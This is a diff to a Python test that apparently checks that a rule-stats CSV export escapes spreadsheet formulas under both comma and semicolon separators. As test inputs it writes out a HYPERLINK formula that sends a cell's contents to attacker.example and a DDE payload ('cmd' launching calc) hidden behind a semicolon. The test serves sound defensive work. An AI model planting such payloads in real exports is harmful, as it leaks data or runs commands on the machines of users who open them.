@@ -38,10 +38,12 @@ def test_the_stats_csv_does_not_hand_a_rule_name_to_the_spreadsheet_as_a_formula
     [first, *_] = stack.call("GET", "/api/rules").json()["rules"]
     body = stack.call("GET", f"/api/rules/{first['id']}").json()
     evil = '=HYPERLINK("http://attacker.example/?x="&A2,"Open")'
-    created = stack.call(
-        "POST", "/api/rules", json={**body, "id": "csv-formula", "name": evil, "active": False}
-    )
-    assert created.status_code == 201, created.text
+    hidden = "Promo;=cmd|' /C calc'!A0;"  # a formula where Excel splits on ";" (id, pt-BR)
+    for rule_id, name in (("csv-formula", evil), ("csv-semicolon", hidden)):
+        created = stack.call(
+            "POST", "/api/rules", json={**body, "id": rule_id, "name": name, "active": False}
+        )
+        assert created.status_code == 201, created.text
     # When marketing downloads the Stats CSV
     page = sign_in(browser, pages, stack.url, "marketing", watched)
     page.goto(f"{stack.url}/#/stats")
@@ -52,9 +54,14 @@ def test_the_stats_csv_does_not_hand_a_rule_name_to_the_spreadsheet_as_a_formula
     names = [row[0] for row in csv.reader(io.StringIO(saved.decode("utf-8-sig")))]
     # (marked UTF-8, so Excel shows accented names and headers as they are)
     assert saved.startswith(codecs.BOM_UTF8)
-    # Then the name reaches the spreadsheet as text, as typed, and no cell as a formula
+    # Then the names reach the spreadsheet as text, as typed, and no cell as a formula,
+    # whether the spreadsheet splits the file on "," or on ";"
     assert f"'{evil}" in names
-    assert [name for name in names if name[:1] in ("=", "+", "-", "@")] == []
+    assert hidden in names
+    text = saved.decode("utf-8-sig")
+    for separator in (",", ";"):
+        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
+        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")] == [], separator
 
 
 def test_a_new_journey_saved_with_warnings_can_be_changed_and_saved_again(
